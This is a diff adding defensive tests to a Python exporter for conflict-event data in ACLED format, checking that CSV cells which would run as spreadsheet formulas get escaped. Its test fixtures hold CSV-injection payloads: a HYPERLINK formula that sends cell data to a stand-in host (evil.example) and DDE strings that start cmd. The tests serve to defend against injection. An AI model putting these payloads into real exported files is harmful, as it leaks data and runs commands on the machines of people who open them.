@@ -7,10 +7,12 @@ import json
 from dataclasses import replace
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from ahdath.errors import UsageError
-from ahdath.export import ACLED_COLUMNS, write_events
-from ahdath.export.writers import display_width
+from ahdath.export import ACLED_COLUMNS, cell, csv_cell, csv_line, write_events
+from ahdath.export.writers import FORMULA_START, display_width
 
 ACLED_ORDER = (
     "event_id_cnty, event_date, year, time_precision, disorder_type, event_type, sub_event_type, actor1, "
@@ -109,3 +111,52 @@ def test_export_unknown_format_is_a_usage_error(events) -> None:
 @pytest.mark.parametrize("text, width", [("abc", 3), ("كفرنبل", 6), ("قُتِلَ", 3), ("東京", 4), ("\u200fحلب", 3)])
 def test_export_display_width(text: str, width: int) -> None:
     assert display_width(text) == width
+
+
+# Cells a spreadsheet would run as formulas (OWASP "CSV Injection"): one for each leading character.
+FORMULAS = ('=HYPERLINK("https://evil.example/?leak="&A1,"اضغط هنا")', "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+
+
+@pytest.mark.parametrize("value", FORMULAS, ids=["=", "+", "-", "@", "tab", "cr"])
+@pytest.mark.parametrize(("field", "column"), [("source", "source"), ("notes", "notes"), ("actor1", "actor1"),
+                                               ("location", "location"), ("event_id", "event_id_cnty"),
+                                               ("tags", "tags"), ("event_date", "event_date")])
+def test_export_csv_escapes_text_a_spreadsheet_would_run(events, field: str, column: str, value: str) -> None:
+    _n, text = _write([replace(events[0], **{field: value})], "csv")
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row[column] == "'" + value
+
+
+def test_export_csv_negative_numbers_stay_numbers(events) -> None:
+    _n, text = _write([replace(events[0], latitude=-12.25, longitude=-3.5, fatalities=0, notes="-")], "csv",
+                      timestamp=1_700_000_000)
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert (row["latitude"], row["longitude"], row["fatalities"]) == ("-12.25", "-3.5", "0")
+    assert row["notes"] == "'-"  # text, even a lone dash, is escaped
+
+
+@given(st.text())
+def test_export_csv_cell_never_starts_like_a_formula(value: str) -> None:
+    out = csv_cell(value)
+    assert not out.startswith(FORMULA_START)
+    assert out == (("'" + value) if value.startswith(FORMULA_START) else value)
+
+
+@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
+def test_export_csv_cell_keeps_numbers_as_they_are(value: float) -> None:
+    assert csv_cell(value) == cell(value)
+
+
+@given(st.lists(st.text(alphabet=st.characters(blacklist_characters="\x00")), min_size=1, max_size=5))
+def test_export_csv_line_round_trips_any_text(cells: list[str]) -> None:
+    line = csv_line(cells)
+    assert line.endswith("\n")
+    assert list(csv.reader(io.StringIO(line, newline=""))) == [cells]
+
+
+def test_export_csv_cell_with_a_carriage_return_stays_in_its_row(events) -> None:
+    _n, text = _write([replace(events[0], notes="\r=1+1"), replace(events[1], notes="a\rb")], "csv")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [r["notes"] for r in rows] == ["'\r=1+1", "a\rb"]
+    assert [r["event_id_cnty"] for r in rows] == ["SYR1", "SYR2"]
